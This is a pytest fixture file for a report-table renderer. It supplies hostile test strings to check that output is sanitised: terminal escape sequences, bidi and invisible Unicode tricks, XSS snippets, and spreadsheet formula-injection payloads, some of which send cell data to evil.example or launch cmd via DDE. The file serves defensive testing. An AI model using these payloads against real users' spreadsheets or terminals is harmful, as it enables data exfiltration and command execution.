"""Texts that attack whoever shows them, and a terminal to show them on."""

from __future__ import annotations

import fcntl
import os
import pty
import re
import struct
import termios
import threading
from collections.abc import Callable
from typing import TextIO

import pytest

from leadreturns.reports.table import Amount, Column, Table

CONTROL_ATTACKS = [
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[31mred\x1b[0m",
    "\x1bc",
    "\x1bP1;1|\x1b\\",
    "\x9b2J",
    "\x9d0;owned\x9c",
    "\x90q\x9c",
    "\x85next line",
    "\x07\x07\x07",
    "abc\x08\x08\x08xyz",
    "first\rsecond",
    "first\nsecond",
    "first\r\nsecond",
    "one\ttwo",
    "\x0b\x0c",
    "\x00",
    "\x7f",
    "\x0e\x0f",
    "\u202egnp.exe",
    "\u2066left\u2069",
    "\u2067right\u2069",
    "\u202aa\u202bb\u202cc\u202dd",
    "\u200eleft\u200fright",
    "\u061carabic",
    "L-1\u200b00",
    "L-1\u200c00",
    "L-1\u200d00",
    "L-1\u206000",
    "\ufeffL-100",
    "soft\xadhyphen",
    "line\u2028separator",
    "paragraph\u2029separator",
    "\u3164",
    "\u115f",
    "\ufff9note\ufffb",
    "\U000e0041\U000e0042",
    "half\ud800",
    "\udcffbyte",
    "\ufffe\uffff",
]
MARKUP_ATTACKS = [
    "[/]",
    "[/b]",
    "[dup]",
    "[bold red]x[/]",
    "[link=https://evil.example]x[/link]",
    ":skull:",
    "[[1]]",
    "\\[x]",
    "{0}",
    "%s%n",
    "<b>x</b>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)",
    "&lt;script&gt;",
    "javascript:alert(1)",
    "]]>",
    "<!-- -->",
    "<?xml version='1.0'?>",
]
ORDINARY_TEXTS = [
    "Zoë O'Brien",
    "北京市 太阳能",
    "Ünïcode — with “quotes” … and €",
    "naïve café",
    "a" * 300,
    "no-break\xa0blank",
    "👍🏽 emoji",
    "C:\\leads\\october.csv",
]
HOSTILE_TEXTS = CONTROL_ATTACKS + MARKUP_ATTACKS

_COMMANDS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|' /C calc'!A0",
    "={1,2;3,4}",
    "=A1",
    "=SUM(1,2)",
    "==1",
    "=\n1",
    "=-1",
    "=@SUM(1)",
]
FORMULA_ATTACKS = [
    *_COMMANDS,
    *(f" {text}" for text in _COMMANDS[:4]),
    *(f"\t{text}" for text in _COMMANDS[:4]),
    *(f"\r{text}" for text in _COMMANDS[:4]),
    *(f"\n{text}" for text in _COMMANDS[:4]),
    *(f"\r\n{text}" for text in _COMMANDS[:2]),
    *(f"\x00{text}" for text in _COMMANDS[:2]),
    *(f"\ufeff{text}" for text in _COMMANDS[:2]),
    *(f"\u200b{text}" for text in _COMMANDS[:2]),
    *(f"\xa0{text}" for text in _COMMANDS[:2]),
    *(f"'{text}" for text in _COMMANDS[:4]),
    *(f"+{text[1:]}" for text in _COMMANDS[:7]),
    *(f"-{text[1:]}" for text in _COMMANDS[:7]),
    *(f"@{text[1:]}" for text in _COMMANDS[:7]),
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+14155552671",
    "-2+3+cmd|' /C calc'!D2",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe66SUM(1)",
    "-",
    "=",
    "@",
    "+",
    "--1",
    "-a",
    "+a",
    "=1;=1",
    "=1,=1",
    '="a""b"',
]
ERROR_TEXTS = ["#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!", "TRUE", "NA", "null", "None", "nan"]

_COLOR_SEQUENCE = re.compile(r"\x1b\[[0-9;]*m")


@pytest.fixture
def hostile_texts() -> list[str]:
    return [*HOSTILE_TEXTS, *ORDINARY_TEXTS, *FORMULA_ATTACKS]


@pytest.fixture
def ordinary_texts() -> list[str]:
    return ORDINARY_TEXTS


@pytest.fixture
def markup_attacks() -> list[str]:
    return MARKUP_ATTACKS


@pytest.fixture
def formula_attacks() -> list[str]:
    return FORMULA_ATTACKS


@pytest.fixture
def error_texts() -> list[str]:
    return ERROR_TEXTS


@pytest.fixture
def uncolored() -> Callable[[str], str]:
    """Takes our own colours away, and nothing else."""
    return lambda text: _COLOR_SEQUENCE.sub("", text)


@pytest.fixture
def commands_in() -> Callable[[str], list[str]]:
    """The characters of a text that a terminal would obey, or that reorder or hide what is read."""
    commands = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
    return commands.findall


@pytest.fixture
def table_of() -> Callable[[list[str]], Table]:
    """A table in which each text stands as an id, as a text and as a sentence."""

    def make(texts: list[str]) -> Table:
        columns = [
            Column("lead_id", "Lead", "id"),
            Column("outcome", "Outcome", "text", 0),
            Column("credit", "Credit", "money", 0),
            Column("reason", "Reason", "text", 2),
            Column("explanation", "Why", "sentence", 3),
        ]
        rows = [(text, "rejected", Amount(-1250, "USD"), text, text) for text in texts]
        return Table("returns", "Returns", columns, rows, [(None, None, Amount(-1250, "USD"), None, None)])

    return make


@pytest.fixture
def on_terminal(monkeypatch: pytest.MonkeyPatch) -> Callable[..., str]:
    """Runs `write(stream)` on a pseudo-terminal of the given width and returns all that reached the screen."""
    monkeypatch.delenv("COLUMNS", raising=False)
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")

    def run(write: Callable[[TextIO], None], width: int = 80, encoding: str = "utf-8") -> str:
        outer, inner = pty.openpty()
        fcntl.ioctl(inner, termios.TIOCSWINSZ, struct.pack("HHHH", 25, width, 0, 0))
        settings = termios.tcgetattr(inner)
        settings[1] &= ~termios.OPOST
        termios.tcsetattr(inner, termios.TCSANOW, settings)
        received: list[bytes] = []
        reader = threading.Thread(target=_drain, args=(outer, received))
        reader.start()
        with os.fdopen(inner, "w", encoding=encoding) as stream:
            write(stream)
        reader.join(10)
        os.close(outer)
        return b"".join(received).decode(encoding)

    return run


def _drain(handle: int, received: list[bytes]) -> None:
    while True:
        try:
            block = os.read(handle, 65_536)
        except OSError:
            return
        if not block:
            return
        received.append(block)
